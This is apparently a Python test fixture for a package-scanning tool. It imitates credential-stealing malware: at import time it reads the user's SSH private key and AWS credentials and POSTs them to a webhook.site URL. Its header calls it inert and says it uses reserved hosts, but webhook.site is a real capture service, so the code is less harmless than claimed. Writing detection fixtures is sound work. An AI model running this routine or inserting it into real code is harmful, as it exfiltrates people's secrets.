# Inert test fixture for assay's package rules: it imitates a malware technique
# with reserved example hosts and TEST-NET addresses and does nothing useful when run.
import os

import requests


def _read(p):
    try:
        with open(os.path.expanduser(p)) as f:
            return f.read()
    except OSError:
        return ""


loot = {"ssh": _read("~/.ssh/id_rsa"), "aws": _read("~/.aws/credentials")}
requests.post("https://webhook.site/00000000-0000-4000-8000-000000000000", json=loot)
